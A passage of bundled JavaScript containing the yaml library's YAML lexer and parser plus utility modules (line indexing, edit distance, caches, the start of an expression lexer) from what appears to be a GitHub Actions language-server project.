      while (ch === "	" || ch === " " || ch === "\r" || ch === "\n")
        ch = this.buffer[++i];
      nl = i - 1;
    } else if (!this.blockScalarKeep) {
      do {
        let i2 = nl - 1;
        let ch2 = this.buffer[i2];
        if (ch2 === "\r")
          ch2 = this.buffer[--i2];
        const lastChar = i2;
        while (ch2 === " ")
          ch2 = this.buffer[--i2];
        if (ch2 === "\n" && i2 >= this.pos && i2 + 1 + indent > lastChar)
          nl = i2;
        else
          break;
      } while (true);
    }
    yield SCALAR2;
    yield* this.pushToIndex(nl + 1, true);
    return yield* this.parseLineStart();
  }
  *parsePlainScalar() {
    const inFlow = this.flowLevel > 0;
    let end = this.pos - 1;
    let i = this.pos - 1;
    let ch;
    while (ch = this.buffer[++i]) {
      if (ch === ":") {
        const next = this.buffer[i + 1];
        if (isEmpty(next) || inFlow && flowIndicatorChars.has(next))
          break;
        end = i;
      } else if (isEmpty(ch)) {
        let next = this.buffer[i + 1];
        if (ch === "\r") {
          if (next === "\n") {
            i += 1;
            ch = "\n";
            next = this.buffer[i + 1];
          } else
            end = i;
        }
        if (next === "#" || inFlow && flowIndicatorChars.has(next))
          break;
        if (ch === "\n") {
          const cs = this.continueScalar(i + 1);
          if (cs === -1)
            break;
          i = Math.max(i, cs - 2);
        }
      } else {
        if (inFlow && flowIndicatorChars.has(ch))
          break;
        end = i;
      }
    }
    if (!ch && !this.atEnd)
      return this.setNext("plain-scalar");
    yield SCALAR2;
    yield* this.pushToIndex(end + 1, true);
    return inFlow ? "flow" : "doc";
  }
  *pushCount(n) {
    if (n > 0) {
      yield this.buffer.substr(this.pos, n);
      this.pos += n;
      return n;
    }
    return 0;
  }
  *pushToIndex(i, allowEmpty) {
    const s = this.buffer.slice(this.pos, i);
    if (s) {
      yield s;
      this.pos += s.length;
      return s.length;
    } else if (allowEmpty)
      yield "";
    return 0;
  }
  *pushIndicators() {
    let n = 0;
    loop: while (true) {
      switch (this.charAt(0)) {
        case "!":
          n += yield* this.pushTag();
          n += yield* this.pushSpaces(true);
          continue loop;
        case "&":
          n += yield* this.pushUntil(isNotAnchorChar);
          n += yield* this.pushSpaces(true);
          continue loop;
        case "-":
        // this is an error
        case "?":
        // this is an error outside flow collections
        case ":": {
          const inFlow = this.flowLevel > 0;
          const ch1 = this.charAt(1);
          if (isEmpty(ch1) || inFlow && flowIndicatorChars.has(ch1)) {
            if (!inFlow)
              this.indentNext = this.indentValue + 1;
            else if (this.flowKey)
              this.flowKey = false;
            n += yield* this.pushCount(1);
            n += yield* this.pushSpaces(true);
            continue loop;
          }
        }
      }
      break loop;
    }
    return n;
  }
  *pushTag() {
    if (this.charAt(1) === "<") {
      let i = this.pos + 2;
      let ch = this.buffer[i];
      while (!isEmpty(ch) && ch !== ">")
        ch = this.buffer[++i];
      return yield* this.pushToIndex(ch === ">" ? i + 1 : i, false);
    } else {
      let i = this.pos + 1;
      let ch = this.buffer[i];
      while (ch) {
        if (tagChars.has(ch))
          ch = this.buffer[++i];
        else if (ch === "%" && hexDigits.has(this.buffer[i + 1]) && hexDigits.has(this.buffer[i + 2])) {
          ch = this.buffer[i += 3];
        } else
          break;
      }
      return yield* this.pushToIndex(i, false);
    }
  }
  *pushNewline() {
    const ch = this.buffer[this.pos];
    if (ch === "\n")
      return yield* this.pushCount(1);
    else if (ch === "\r" && this.charAt(1) === "\n")
      return yield* this.pushCount(2);
    else
      return 0;
  }
  *pushSpaces(allowTabs) {
    let i = this.pos - 1;
    let ch;
    do {
      ch = this.buffer[++i];
    } while (ch === " " || allowTabs && ch === "	");
    const n = i - this.pos;
    if (n > 0) {
      yield this.buffer.substr(this.pos, n);
      this.pos = i;
    }
    return n;
  }
  *pushUntil(test) {
    let i = this.pos;
    let ch = this.buffer[i];
    while (!test(ch))
      ch = this.buffer[++i];
    return yield* this.pushToIndex(i, false);
  }
};

// node_modules/yaml/browser/dist/parse/line-counter.js
var LineCounter = class {
  constructor() {
    this.lineStarts = [];
    this.addNewLine = (offset) => this.lineStarts.push(offset);
    this.linePos = (offset) => {
      let low = 0;
      let high = this.lineStarts.length;
      while (low < high) {
        const mid = low + high >> 1;
        if (this.lineStarts[mid] < offset)
          low = mid + 1;
        else
          high = mid;
      }
      if (this.lineStarts[low] === offset)
        return { line: low + 1, col: 1 };
      if (low === 0)
        return { line: 0, col: offset };
      const start = this.lineStarts[low - 1];
      return { line: low, col: offset - start + 1 };
    };
  }
};

// node_modules/yaml/browser/dist/parse/parser.js
function includesToken(list, type) {
  for (let i = 0; i < list.length; ++i)
    if (list[i].type === type)
      return true;
  return false;
}
function findNonEmptyIndex(list) {
  for (let i = 0; i < list.length; ++i) {
    switch (list[i].type) {
      case "space":
      case "comment":
      case "newline":
        break;
      default:
        return i;
    }
  }
  return -1;
}
function isFlowToken(token) {
  switch (token?.type) {
    case "alias":
    case "scalar":
    case "single-quoted-scalar":
    case "double-quoted-scalar":
    case "flow-collection":
      return true;
    default:
      return false;
  }
}
function getPrevProps(parent) {
  switch (parent.type) {
    case "document":
      return parent.start;
    case "block-map": {
      const it = parent.items[parent.items.length - 1];
      return it.sep ?? it.start;
    }
    case "block-seq":
      return parent.items[parent.items.length - 1].start;
    /* istanbul ignore next should not happen */
    default:
      return [];
  }
}
function getFirstKeyStartProps(prev) {
  if (prev.length === 0)
    return [];
  let i = prev.length;
  loop: while (--i >= 0) {
    switch (prev[i].type) {
      case "doc-start":
      case "explicit-key-ind":
      case "map-value-ind":
      case "seq-item-ind":
      case "newline":
        break loop;
    }
  }
  while (prev[++i]?.type === "space") {
  }
  return prev.splice(i, prev.length);
}
function arrayPushArray(target, source) {
  if (source.length < 1e5)
    Array.prototype.push.apply(target, source);
  else
    for (let i = 0; i < source.length; ++i)
      target.push(source[i]);
}
function fixFlowSeqItems(fc) {
  if (fc.start.type === "flow-seq-start") {
    for (const it of fc.items) {
      if (it.sep && !it.value && !includesToken(it.start, "explicit-key-ind") && !includesToken(it.sep, "map-value-ind")) {
        if (it.key)
          it.value = it.key;
        delete it.key;
        if (isFlowToken(it.value)) {
          if (it.value.end)
            arrayPushArray(it.value.end, it.sep);
          else
            it.value.end = it.sep;
        } else
          arrayPushArray(it.start, it.sep);
        delete it.sep;
      }
    }
  }
}
var Parser = class {
  /**
   * @param onNewLine - If defined, called separately with the start position of
   *   each new line (in `parse()`, including the start of input).
   */
  constructor(onNewLine) {
    this.atNewLine = true;
    this.atScalar = false;
    this.indent = 0;
    this.offset = 0;
    this.onKeyLine = false;
    this.stack = [];
    this.source = "";
    this.type = "";
    this.lexer = new Lexer();
    this.onNewLine = onNewLine;
  }
  /**
   * Parse `source` as a YAML stream.
   * If `incomplete`, a part of the last line may be left as a buffer for the next call.
   *
   * Errors are not thrown, but yielded as `{ type: 'error', message }` tokens.
   *
   * @returns A generator of tokens representing each directive, document, and other structure.
   */
  *parse(source, incomplete = false) {
    if (this.onNewLine && this.offset === 0)
      this.onNewLine(0);
    for (const lexeme of this.lexer.lex(source, incomplete))
      yield* this.next(lexeme);
    if (!incomplete)
      yield* this.end();
  }
  /**
   * Advance the parser by the `source` of one lexical token.
   */
  *next(source) {
    this.source = source;
    if (this.atScalar) {
      this.atScalar = false;
      yield* this.step();
      this.offset += source.length;
      return;
    }
    const type = tokenType(source);
    if (!type) {
      const message = `Not a YAML token: ${source}`;
      yield* this.pop({ type: "error", offset: this.offset, message, source });
      this.offset += source.length;
    } else if (type === "scalar") {
      this.atNewLine = false;
      this.atScalar = true;
      this.type = "scalar";
    } else {
      this.type = type;
      yield* this.step();
      switch (type) {
        case "newline":
          this.atNewLine = true;
          this.indent = 0;
          if (this.onNewLine)
            this.onNewLine(this.offset + source.length);
          break;
        case "space":
          if (this.atNewLine && source[0] === " ")
            this.indent += source.length;
          break;
        case "explicit-key-ind":
        case "map-value-ind":
        case "seq-item-ind":
          if (this.atNewLine)
            this.indent += source.length;
          break;
        case "doc-mode":
        case "flow-error-end":
          return;
        default:
          this.atNewLine = false;
      }
      this.offset += source.length;
    }
  }
  /** Call at end of input to push out any remaining constructions */
  *end() {
    while (this.stack.length > 0)
      yield* this.pop();
  }
  get sourceToken() {
    const st = {
      type: this.type,
      offset: this.offset,
      indent: this.indent,
      source: this.source
    };
    return st;
  }
  *step() {
    const top = this.peek(1);
    if (this.type === "doc-end" && top?.type !== "doc-end") {
      while (this.stack.length > 0)
        yield* this.pop();
      this.stack.push({
        type: "doc-end",
        offset: this.offset,
        source: this.source
      });
      return;
    }
    if (!top)
      return yield* this.stream();
    switch (top.type) {
      case "document":
        return yield* this.document(top);
      case "alias":
      case "scalar":
      case "single-quoted-scalar":
      case "double-quoted-scalar":
        return yield* this.scalar(top);
      case "block-scalar":
        return yield* this.blockScalar(top);
      case "block-map":
        return yield* this.blockMap(top);
      case "block-seq":
        return yield* this.blockSequence(top);
      case "flow-collection":
        return yield* this.flowCollection(top);
      case "doc-end":
        return yield* this.documentEnd(top);
    }
    yield* this.pop();
  }
  peek(n) {
    return this.stack[this.stack.length - n];
  }
  *pop(error) {
    const token = error ?? this.stack.pop();
    if (!token) {
      const message = "Tried to pop an empty stack";
      yield { type: "error", offset: this.offset, source: "", message };
    } else if (this.stack.length === 0) {
      yield token;
    } else {
      const top = this.peek(1);
      if (token.type === "block-scalar") {
        token.indent = "indent" in top ? top.indent : 0;
      } else if (token.type === "flow-collection" && top.type === "document") {
        token.indent = 0;
      }
      if (token.type === "flow-collection")
        fixFlowSeqItems(token);
      switch (top.type) {
        case "document":
          top.value = token;
          break;
        case "block-scalar":
          top.props.push(token);
          break;
        case "block-map": {
          const it = top.items[top.items.length - 1];
          if (it.value) {
            top.items.push({ start: [], key: token, sep: [] });
            this.onKeyLine = true;
            return;
          } else if (it.sep) {
            it.value = token;
          } else {
            Object.assign(it, { key: token, sep: [] });
            this.onKeyLine = !it.explicitKey;
            return;
          }
          break;
        }
        case "block-seq": {
          const it = top.items[top.items.length - 1];
          if (it.value)
            top.items.push({ start: [], value: token });
          else
            it.value = token;
          break;
        }
        case "flow-collection": {
          const it = top.items[top.items.length - 1];
          if (!it || it.value)
            top.items.push({ start: [], key: token, sep: [] });
          else if (it.sep)
            it.value = token;
          else
            Object.assign(it, { key: token, sep: [] });
          return;
        }
        /* istanbul ignore next should not happen */
        default:
          yield* this.pop();
          yield* this.pop(token);
      }
      if ((top.type === "document" || top.type === "block-map" || top.type === "block-seq") && (token.type === "block-map" || token.type === "block-seq")) {
        const last = token.items[token.items.length - 1];
        if (last && !last.sep && !last.value && last.start.length > 0 && findNonEmptyIndex(last.start) === -1 && (token.indent === 0 || last.start.every((st) => st.type !== "comment" || st.indent < token.indent))) {
          if (top.type === "document")
            top.end = last.start;
          else
            top.items.push({ start: last.start });
          token.items.splice(-1, 1);
        }
      }
    }
  }
  *stream() {
    switch (this.type) {
      case "directive-line":
        yield { type: "directive", offset: this.offset, source: this.source };
        return;
      case "byte-order-mark":
      case "space":
      case "comment":
      case "newline":
        yield this.sourceToken;
        return;
      case "doc-mode":
      case "doc-start": {
        const doc = {
          type: "document",
          offset: this.offset,
          start: []
        };
        if (this.type === "doc-start")
          doc.start.push(this.sourceToken);
        this.stack.push(doc);
        return;
      }
    }
    yield {
      type: "error",
      offset: this.offset,
      message: `Unexpected ${this.type} token in YAML stream`,
      source: this.source
    };
  }
  *document(doc) {
    if (doc.value)
      return yield* this.lineEnd(doc);
    switch (this.type) {
      case "doc-start": {
        if (findNonEmptyIndex(doc.start) !== -1) {
          yield* this.pop();
          yield* this.step();
        } else
          doc.start.push(this.sourceToken);
        return;
      }
      case "anchor":
      case "tag":
      case "space":
      case "comment":
      case "newline":
        doc.start.push(this.sourceToken);
        return;
    }
    const bv = this.startBlockValue(doc);
    if (bv)
      this.stack.push(bv);
    else {
      yield {
        type: "error",
        offset: this.offset,
        message: `Unexpected ${this.type} token in YAML document`,
        source: this.source
      };
    }
  }
  *scalar(scalar) {
    if (this.type === "map-value-ind") {
      const prev = getPrevProps(this.peek(2));
      const start = getFirstKeyStartProps(prev);
      let sep5;
      if (scalar.end) {
        sep5 = scalar.end;
        sep5.push(this.sourceToken);
        delete scalar.end;
      } else
        sep5 = [this.sourceToken];
      const map2 = {
        type: "block-map",
        offset: scalar.offset,
        indent: scalar.indent,
        items: [{ start, key: scalar, sep: sep5 }]
      };
      this.onKeyLine = true;
      this.stack[this.stack.length - 1] = map2;
    } else
      yield* this.lineEnd(scalar);
  }
  *blockScalar(scalar) {
    switch (this.type) {
      case "space":
      case "comment":
      case "newline":
        scalar.props.push(this.sourceToken);
        return;
      case "scalar":
        scalar.source = this.source;
        this.atNewLine = true;
        this.indent = 0;
        if (this.onNewLine) {
          let nl = this.source.indexOf("\n") + 1;
          while (nl !== 0) {
            this.onNewLine(this.offset + nl);
            nl = this.source.indexOf("\n", nl) + 1;
          }
        }
        yield* this.pop();
        break;
      /* istanbul ignore next should not happen */
      default:
        yield* this.pop();
        yield* this.step();
    }
  }
  *blockMap(map2) {
    const it = map2.items[map2.items.length - 1];
    switch (this.type) {
      case "newline":
        this.onKeyLine = false;
        if (it.value) {
          const end = "end" in it.value ? it.value.end : void 0;
          const last = Array.isArray(end) ? end[end.length - 1] : void 0;
          if (last?.type === "comment")
            end?.push(this.sourceToken);
          else
            map2.items.push({ start: [this.sourceToken] });
        } else if (it.sep) {
          it.sep.push(this.sourceToken);
        } else {
          it.start.push(this.sourceToken);
        }
        return;
      case "space":
      case "comment":
        if (it.value) {
          map2.items.push({ start: [this.sourceToken] });
        } else if (it.sep) {
          it.sep.push(this.sourceToken);
        } else {
          if (this.atIndentedComment(it.start, map2.indent)) {
            const prev = map2.items[map2.items.length - 2];
            const end = prev?.value?.end;
            if (Array.isArray(end)) {
              arrayPushArray(end, it.start);
              end.push(this.sourceToken);
              map2.items.pop();
              return;
            }
          }
          it.start.push(this.sourceToken);
        }
        return;
    }
    if (this.indent >= map2.indent) {
      const atMapIndent = !this.onKeyLine && this.indent === map2.indent;
      const atNextItem = atMapIndent && (it.sep || it.explicitKey) && this.type !== "seq-item-ind";
      let start = [];
      if (atNextItem && it.sep && !it.value) {
        const nl = [];
        for (let i = 0; i < it.sep.length; ++i) {
          const st = it.sep[i];
          switch (st.type) {
            case "newline":
              nl.push(i);
              break;
            case "space":
              break;
            case "comment":
              if (st.indent > map2.indent)
                nl.length = 0;
              break;
            default:
              nl.length = 0;
          }
        }
        if (nl.length >= 2)
          start = it.sep.splice(nl[1]);
      }
      switch (this.type) {
        case "anchor":
        case "tag":
          if (atNextItem || it.value) {
            start.push(this.sourceToken);
            map2.items.push({ start });
            this.onKeyLine = true;
          } else if (it.sep) {
            it.sep.push(this.sourceToken);
          } else {
            it.start.push(this.sourceToken);
          }
          return;
        case "explicit-key-ind":
          if (!it.sep && !it.explicitKey) {
            it.start.push(this.sourceToken);
            it.explicitKey = true;
          } else if (atNextItem || it.value) {
            start.push(this.sourceToken);
            map2.items.push({ start, explicitKey: true });
          } else {
            this.stack.push({
              type: "block-map",
              offset: this.offset,
              indent: this.indent,
              items: [{ start: [this.sourceToken], explicitKey: true }]
            });
          }
          this.onKeyLine = true;
          return;
        case "map-value-ind":
          if (it.explicitKey) {
            if (!it.sep) {
              if (includesToken(it.start, "newline")) {
                Object.assign(it, { key: null, sep: [this.sourceToken] });
              } else {
                const start2 = getFirstKeyStartProps(it.start);
                this.stack.push({
                  type: "block-map",
                  offset: this.offset,
                  indent: this.indent,
                  items: [{ start: start2, key: null, sep: [this.sourceToken] }]
                });
              }
            } else if (it.value) {
              map2.items.push({ start: [], key: null, sep: [this.sourceToken] });
            } else if (includesToken(it.sep, "map-value-ind")) {
              this.stack.push({
                type: "block-map",
                offset: this.offset,
                indent: this.indent,
                items: [{ start, key: null, sep: [this.sourceToken] }]
              });
            } else if (isFlowToken(it.key) && !includesToken(it.sep, "newline")) {
              const start2 = getFirstKeyStartProps(it.start);
              const key = it.key;
              const sep5 = it.sep;
              sep5.push(this.sourceToken);
              delete it.key;
              delete it.sep;
              this.stack.push({
                type: "block-map",
                offset: this.offset,
                indent: this.indent,
                items: [{ start: start2, key, sep: sep5 }]
              });
            } else if (start.length > 0) {
              it.sep = it.sep.concat(start, this.sourceToken);
            } else {
              it.sep.push(this.sourceToken);
            }
          } else {
            if (!it.sep) {
              Object.assign(it, { key: null, sep: [this.sourceToken] });
            } else if (it.value || atNextItem) {
              map2.items.push({ start, key: null, sep: [this.sourceToken] });
            } else if (includesToken(it.sep, "map-value-ind")) {
              this.stack.push({
                type: "block-map",
                offset: this.offset,
                indent: this.indent,
                items: [{ start: [], key: null, sep: [this.sourceToken] }]
              });
            } else {
              it.sep.push(this.sourceToken);
            }
          }
          this.onKeyLine = true;
          return;
        case "alias":
        case "scalar":
        case "single-quoted-scalar":
        case "double-quoted-scalar": {
          const fs = this.flowScalar(this.type);
          if (atNextItem || it.value) {
            map2.items.push({ start, key: fs, sep: [] });
            this.onKeyLine = true;
          } else if (it.sep) {
            this.stack.push(fs);
          } else {
            Object.assign(it, { key: fs, sep: [] });
            this.onKeyLine = true;
          }
          return;
        }
        default: {
          const bv = this.startBlockValue(map2);
          if (bv) {
            if (bv.type === "block-seq") {
              if (!it.explicitKey && it.sep && !includesToken(it.sep, "newline")) {
                yield* this.pop({
                  type: "error",
                  offset: this.offset,
                  message: "Unexpected block-seq-ind on same line with key",
                  source: this.source
                });
                return;
              }
            } else if (atMapIndent) {
              map2.items.push({ start });
            }
            this.stack.push(bv);
            return;
          }
        }
      }
    }
    yield* this.pop();
    yield* this.step();
  }
  *blockSequence(seq2) {
    const it = seq2.items[seq2.items.length - 1];
    switch (this.type) {
      case "newline":
        if (it.value) {
          const end = "end" in it.value ? it.value.end : void 0;
          const last = Array.isArray(end) ? end[end.length - 1] : void 0;
          if (last?.type === "comment")
            end?.push(this.sourceToken);
          else
            seq2.items.push({ start: [this.sourceToken] });
        } else
          it.start.push(this.sourceToken);
        return;
      case "space":
      case "comment":
        if (it.value)
          seq2.items.push({ start: [this.sourceToken] });
        else {
          if (this.atIndentedComment(it.start, seq2.indent)) {
            const prev = seq2.items[seq2.items.length - 2];
            const end = prev?.value?.end;
            if (Array.isArray(end)) {
              arrayPushArray(end, it.start);
              end.push(this.sourceToken);
              seq2.items.pop();
              return;
            }
          }
          it.start.push(this.sourceToken);
        }
        return;
      case "anchor":
      case "tag":
        if (it.value || this.indent <= seq2.indent)
          break;
        it.start.push(this.sourceToken);
        return;
      case "seq-item-ind":
        if (this.indent !== seq2.indent)
          break;
        if (it.value || includesToken(it.start, "seq-item-ind"))
          seq2.items.push({ start: [this.sourceToken] });
        else
          it.start.push(this.sourceToken);
        return;
    }
    if (this.indent > seq2.indent) {
      const bv = this.startBlockValue(seq2);
      if (bv) {
        this.stack.push(bv);
        return;
      }
    }
    yield* this.pop();
    yield* this.step();
  }
  *flowCollection(fc) {
    const it = fc.items[fc.items.length - 1];
    if (this.type === "flow-error-end") {
      let top;
      do {
        yield* this.pop();
        top = this.peek(1);
      } while (top?.type === "flow-collection");
    } else if (fc.end.length === 0) {
      switch (this.type) {
        case "comma":
        case "explicit-key-ind":
          if (!it || it.sep)
            fc.items.push({ start: [this.sourceToken] });
          else
            it.start.push(this.sourceToken);
          return;
        case "map-value-ind":
          if (!it || it.value)
            fc.items.push({ start: [], key: null, sep: [this.sourceToken] });
          else if (it.sep)
            it.sep.push(this.sourceToken);
          else
            Object.assign(it, { key: null, sep: [this.sourceToken] });
          return;
        case "space":
        case "comment":
        case "newline":
        case "anchor":
        case "tag":
          if (!it || it.value)
            fc.items.push({ start: [this.sourceToken] });
          else if (it.sep)
            it.sep.push(this.sourceToken);
          else
            it.start.push(this.sourceToken);
          return;
        case "alias":
        case "scalar":
        case "single-quoted-scalar":
        case "double-quoted-scalar": {
          const fs = this.flowScalar(this.type);
          if (!it || it.value)
            fc.items.push({ start: [], key: fs, sep: [] });
          else if (it.sep)
            this.stack.push(fs);
          else
            Object.assign(it, { key: fs, sep: [] });
          return;
        }
        case "flow-map-end":
        case "flow-seq-end":
          fc.end.push(this.sourceToken);
          return;
      }
      const bv = this.startBlockValue(fc);
      if (bv)
        this.stack.push(bv);
      else {
        yield* this.pop();
        yield* this.step();
      }
    } else {
      const parent = this.peek(2);
      if (parent.type === "block-map" && (this.type === "map-value-ind" && parent.indent === fc.indent || this.type === "newline" && !parent.items[parent.items.length - 1].sep)) {
        yield* this.pop();
        yield* this.step();
      } else if (this.type === "map-value-ind" && parent.type !== "flow-collection") {
        const prev = getPrevProps(parent);
        const start = getFirstKeyStartProps(prev);
        fixFlowSeqItems(fc);
        const sep5 = fc.end.splice(1, fc.end.length);
        sep5.push(this.sourceToken);
        const map2 = {
          type: "block-map",
          offset: fc.offset,
          indent: fc.indent,
          items: [{ start, key: fc, sep: sep5 }]
        };
        this.onKeyLine = true;
        this.stack[this.stack.length - 1] = map2;
      } else {
        yield* this.lineEnd(fc);
      }
    }
  }
  flowScalar(type) {
    if (this.onNewLine) {
      let nl = this.source.indexOf("\n") + 1;
      while (nl !== 0) {
        this.onNewLine(this.offset + nl);
        nl = this.source.indexOf("\n", nl) + 1;
      }
    }
    return {
      type,
      offset: this.offset,
      indent: this.indent,
      source: this.source
    };
  }
  startBlockValue(parent) {
    switch (this.type) {
      case "alias":
      case "scalar":
      case "single-quoted-scalar":
      case "double-quoted-scalar":
        return this.flowScalar(this.type);
      case "block-scalar-header":
        return {
          type: "block-scalar",
          offset: this.offset,
          indent: this.indent,
          props: [this.sourceToken],
          source: ""
        };
      case "flow-map-start":
      case "flow-seq-start":
        return {
          type: "flow-collection",
          offset: this.offset,
          indent: this.indent,
          start: this.sourceToken,
          items: [],
          end: []
        };
      case "seq-item-ind":
        return {
          type: "block-seq",
          offset: this.offset,
          indent: this.indent,
          items: [{ start: [this.sourceToken] }]
        };
      case "explicit-key-ind": {
        this.onKeyLine = true;
        const prev = getPrevProps(parent);
        const start = getFirstKeyStartProps(prev);
        start.push(this.sourceToken);
        return {
          type: "block-map",
          offset: this.offset,
          indent: this.indent,
          items: [{ start, explicitKey: true }]
        };
      }
      case "map-value-ind": {
        this.onKeyLine = true;
        const prev = getPrevProps(parent);
        const start = getFirstKeyStartProps(prev);
        return {
          type: "block-map",
          offset: this.offset,
          indent: this.indent,
          items: [{ start, key: null, sep: [this.sourceToken] }]
        };
      }
    }
    return null;
  }
  atIndentedComment(start, indent) {
    if (this.type !== "comment")
      return false;
    if (this.indent <= indent)
      return false;
    return start.every((st) => st.type === "newline" || st.type === "space");
  }
  *documentEnd(docEnd) {
    if (this.type !== "doc-mode") {
      if (docEnd.end)
        docEnd.end.push(this.sourceToken);
      else
        docEnd.end = [this.sourceToken];
      if (this.type === "newline")
        yield* this.pop();
    }
  }
  *lineEnd(token) {
    switch (this.type) {
      case "comma":
      case "doc-start":
      case "doc-end":
      case "flow-seq-end":
      case "flow-map-end":
      case "map-value-ind":
        yield* this.pop();
        yield* this.step();
        break;
      case "newline":
        this.onKeyLine = false;
      // fallthrough
      case "space":
      case "comment":
      default:
        if (token.end)
          token.end.push(this.sourceToken);
        else
          token.end = [this.sourceToken];
        if (this.type === "newline")
          yield* this.pop();
    }
  }
};

// node_modules/yaml/browser/dist/public-api.js
function parseOptions(options) {
  const prettyErrors = options.prettyErrors !== false;
  const lineCounter = options.lineCounter || prettyErrors && new LineCounter() || null;
  return { lineCounter, prettyErrors };
}
function parseDocument(source, options = {}) {
  const { lineCounter, prettyErrors } = parseOptions(options);
  const parser = new Parser(lineCounter?.addNewLine);
  const composer = new Composer(options);
  let doc = null;
  for (const _doc of composer.compose(parser.parse(source), true, source.length)) {
    if (!doc)
      doc = _doc;
    else if (doc.options.logLevel !== "silent") {
      doc.errors.push(new YAMLParseError(_doc.range.slice(0, 2), "MULTIPLE_DOCS", "Source contains multiple documents; please use YAML.parseAllDocuments()"));
      break;
    }
  }
  if (prettyErrors && lineCounter) {
    doc.errors.forEach(prettifyError(source, lineCounter));
    doc.warnings.forEach(prettifyError(source, lineCounter));
  }
  return doc;
}

// server/src/parse/text.ts
var LineIndex = class {
  constructor(text) {
    this.text = text;
    const starts = [0];
    for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1)) starts.push(i + 1);
    this.lineStarts = starts;
  }
  text;
  /** Offset at which each line starts. Lines end at `\n`; a `\r` before it belongs to the line. */
  lineStarts;
  get lineCount() {
    return this.lineStarts.length;
  }
  /** The line containing `offset` (0-based). */
  lineAt(offset) {
    const starts = this.lineStarts;
    let low = 0;
    let high = starts.length - 1;
    while (low < high) {
      const mid = low + high + 1 >> 1;
      if (starts[mid] <= offset) low = mid;
      else high = mid - 1;
    }
    return low;
  }
  position(offset) {
    const clamped = Math.max(0, Math.min(offset, this.text.length));
    const line = this.lineAt(clamped);
    return { line, character: clamped - this.lineStarts[line] };
  }
  range(span) {
    return { start: this.position(span.start), end: this.position(span.end) };
  }
  offset(position) {
    if (position.line < 0) return 0;
    if (position.line >= this.lineStarts.length) return this.text.length;
    const start = this.lineStarts[position.line];
    return Math.min(start + Math.max(0, position.character), this.lineContentEnd(position.line));
  }
  /** Offset just past the last character of the line, before its `\r\n` or `\n`. */
  lineContentEnd(line) {
    const next = line + 1 < this.lineStarts.length ? this.lineStarts[line + 1] - 1 : this.text.length;
    return next > this.lineStarts[line] && this.text.charCodeAt(next - 1) === 13 ? next - 1 : next;
  }
  lineText(line) {
    return this.text.slice(this.lineStarts[line], this.lineContentEnd(line));
  }
  /** The end-of-line sequence the document uses (its first line break), `\n` when it has none. */
  get eol() {
    const first = this.text.indexOf("\n");
    return first > 0 && this.text.charCodeAt(first - 1) === 13 ? "\r\n" : "\n";
  }
  /** Leading spaces of a line. */
  indentation(line) {
    return /^[ \t]*/.exec(this.lineText(line))[0];
  }
};

// server/src/parse/edit-distance.ts
function editDistance(a, b, { limit = Number.POSITIVE_INFINITY, swaps = false } = {}) {
  if (Math.abs(a.length - b.length) > limit) return limit + 1;
  let beforePrevious = [];
  let previous = Array.from({ length: b.length + 1 }, (_, j) => j);
  for (let i = 1; i <= a.length; i++) {
    const current = [i];
    let best = i;
    for (let j = 1; j <= b.length; j++) {
      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
      let distance = Math.min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + cost);
      if (swaps && i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1])
        distance = Math.min(distance, beforePrevious[j - 2] + 1);
      current[j] = distance;
      best = Math.min(best, distance);
    }
    if (best > limit) return limit + 1;
    beforePrevious = previous;
    previous = current;
  }
  return previous[b.length];
}

// server/src/parse/attached-cache.ts
var AttachedCache = class {
  constructor(description, host) {
    this.host = host;
    this.slot = /* @__PURE__ */ Symbol(`actions-warden.${description}`);
  }
  host;
  slot;
  holder(key) {
    return this.host ? this.host(key) : key;
  }
  get(key) {
    return this.holder(key)[this.slot];
  }
  has(key) {
    return this.holder(key)[this.slot] !== void 0;
  }
  set(key, value) {
    const holder = this.holder(key);
    if (this.host || Object.prototype.hasOwnProperty.call(holder, this.slot)) holder[this.slot] = value;
    else Object.defineProperty(holder, this.slot, { value, writable: true, enumerable: false, configurable: true });
    return this;
  }
  delete(key) {
    const had = this.has(key);
    if (had) this.holder(key)[this.slot] = void 0;
    return had;
  }
};
var attachmentsOf = (key) => key.attachments;

// server/src/parse/text-memo.ts
var TextMemo = class {
  constructor(compute, capacity = 4096, maxKeyLength = 64 * 1024) {
    this.compute = compute;
    this.capacity = capacity;
    this.maxKeyLength = maxKeyLength;
    MEMOS.add(this);
  }
  compute;
  capacity;
  maxKeyLength;
  current = /* @__PURE__ */ new Map();
  previous = /* @__PURE__ */ new Map();
  get(text) {
    if (text.length > this.maxKeyLength) return this.compute(text);
    let value = this.current.get(text);
    if (value !== void 0) return value;
    value = this.previous.get(text);
    if (value === void 0) value = this.compute(text);
    if (this.current.size >= this.capacity) {
      this.previous = this.current;
      this.current = /* @__PURE__ */ new Map();
    }
    this.current.set(text, value);
    return value;
  }
  /** Forgets everything (benchmarks measure cold analyses). */
  clear() {
    this.current.clear();
    this.previous.clear();
  }
};
var MEMOS = /* @__PURE__ */ new Set();

// server/src/parse/expressions.ts
var MAX_NESTING = 256;
var MAX_AST_HEIGHT = 1024;
var BUILTIN_FUNCTIONS = new Map(
  [
    ["contains", 2, 2],
    ["startsWith", 2, 2],
    ["endsWith", 2, 2],
    ["format", 1, Infinity],
    ["join", 1, 2],
    ["toJSON", 1, 1],
    ["fromJSON", 1, 1],
    ["hashFiles", 1, Infinity],
    ["case", 3, Infinity],
    ["success", 0, 0],
    ["always", 0, 0],
    ["cancelled", 0, 0],
    ["failure", 0, Infinity]
  ].map(([name, minArgs, maxArgs]) => [name.toLowerCase(), { name, minArgs, maxArgs }])
);
var SyntaxAbort = class {
  constructor(error) {
    this.error = error;
  }
  error;
};
function abort(message, start, end) {
  throw new SyntaxAbort({ message, start, end });
}
var NUMBER_PATTERN = /^[+-]?(?:0[xX][0-9a-fA-F]+|(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|Infinity)$/;
function isDigit(c) {
  return c >= 48 && c <= 57;
}
function isIdentStart(c) {
  return c >= 97 && c <= 122 || c >= 65 && c <= 90 || c === 95;
}
function isIdentPart(c) {
  return isIdentStart(c) || isDigit(c) || c === 45;
}
function isNumberPart(c) {
  return isIdentPart(c) || c === 46 || c === 43;
}
function isWhitespace(c) {
  return c === 32 || c >= 9 && c <= 13 || c === 160 || c === 65279 || c === 5760 || c >= 8192 && c <= 8202 || c === 8232 || c === 8233 || c === 8239 || c === 8287 || c === 12288;
}
var Lexer2 = class {
  constructor(src) {
    this.src = src;
  }
  src;
  pos = 0;
